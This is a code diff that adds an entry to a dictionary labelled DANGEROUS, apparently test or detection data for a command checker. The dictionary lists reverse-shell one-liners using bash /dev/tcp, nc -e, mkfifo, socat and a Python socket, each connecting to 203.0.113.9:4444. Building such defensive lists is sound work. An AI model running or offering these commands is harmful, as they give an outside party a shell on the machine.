@@ -21,6 +21,7 @@ DANGEROUS = {
     # Shells to outside
     "dev-tcp": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     "nc-e": "nc 203.0.113.9 4444 -e /bin/sh",
+    "nc-e-first": "nc -e /bin/sh 203.0.113.9 4444",
     "mkfifo": "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
     "socat": "socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
     "python-pty": "s=socket.socket();s.connect((H,4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)",
